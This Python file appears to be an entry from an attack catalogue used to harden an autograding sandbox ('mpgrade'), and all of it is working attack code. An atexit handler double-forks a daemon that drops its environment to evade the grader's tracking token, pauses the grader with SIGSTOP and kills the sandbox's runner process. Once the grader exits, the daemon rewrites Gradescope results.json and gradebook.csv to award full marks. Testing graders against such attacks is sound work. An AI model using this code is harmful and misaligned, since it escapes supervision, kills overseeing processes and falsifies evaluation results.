"""Leaves a process behind through an atexit handler, the moment everyone else is shutting down."""
import os
import subprocess
import sys

try:  # a name the attack catalogue's test finds this file's processes by, whatever the grader tracks
    with open("/proc/self/comm", "w") as _comm:
        _comm.write("mpgrade-attack")
except OSError:
    pass

# The survivor: a heartbeat every 0.2 s, for 20 s at most; once the grader has exited, it rewrites
# the results it was told about. Its command line carries the marker; its environment is empty.
DAEMON = r"""
import json, os, sys, time
name, grader, out, forker = sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])


def rewrite(out):
    if out.endswith(".json"):  # Gradescope's results.json: the score becomes the sum of the maxima
        try:
            with open(out) as file:
                result = json.load(file)
            result["score"] = sum(test.get("max_score", 0) for test in result.get("tests", []))
            with open(out, "w") as file:
                json.dump(result, file)
        except (OSError, ValueError, TypeError):
            pass
        return
    try:
        path = os.path.join(out, "attacker", "result.json")
        with open(path) as file:
            result = json.load(file)
        result["score"] = result["max_score"]
        with open(path, "w") as file:
            json.dump(result, file)
        path = os.path.join(out, "gradebook.csv")
        with open(path) as file:
            rows = file.read().splitlines()
        rows = [row.replace(",0,", ",10,", 1) if row.startswith("attacker,") else row for row in rows]
        with open(path, "w") as file:
            file.write("\n".join(rows) + "\n")
    except (OSError, ValueError, KeyError):
        pass


if forker:  # once the process that forked it has gone, kill the adopter (the sandbox's runner)
    for _ in range(200):
        if os.getppid() != forker:
            break
        time.sleep(0.01)
    reaper = os.getppid()
    if reaper > 1:
        try:  # the grader must not look while the adopter dies: it would still see this as its child
            if grader > 1:
                os.kill(grader, 19)  # SIGSTOP
        except OSError:
            pass
        try:
            os.kill(reaper, 9)
        except OSError:
            pass
        for _ in range(200):
            if os.getppid() != reaper:
                break
            time.sleep(0.005)
        try:
            if grader > 1:
                os.kill(grader, 18)  # SIGCONT
        except OSError:
            pass

for beat in range(100):
    try:
        os.makedirs("/tmp/mpgrade-attacks/heartbeat", exist_ok=True)
        with open(f"/tmp/mpgrade-attacks/heartbeat/{name}", "w") as file:
            file.write(str(beat))
    except OSError:
        pass
    if out and grader and not os.path.exists(f"/proc/{grader}"):
        rewrite(out)
    time.sleep(0.2)
"""


def become_daemon(name, grader_pid=None, out=None, kill_reaper=False):
    """Forget the environment (and with it any token the grader looks for); carry the marker."""
    argv = [sys.executable, "-c", DAEMON, "mpgrade-attack-survivor", name, str(grader_pid or 0), out or ""]
    argv.append(str(os.getppid()) if kill_reaper else "0")
    os.execve(sys.executable, argv, {})

CHILD = '''
import atexit, os, sys


def escape():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            DAEMON_CALL
        os._exit(0)


atexit.register(escape)
'''


def run_in_process(target, args=()):
    call = f"os.execve(sys.executable, [sys.executable, '-c', {DAEMON!r}, 'mpgrade-attack-survivor', 'atexit-daemon', '0', ''], {{}})"
    subprocess.run([sys.executable, "-c", CHILD.replace("DAEMON_CALL", call)], timeout=10)
    raise NotImplementedError
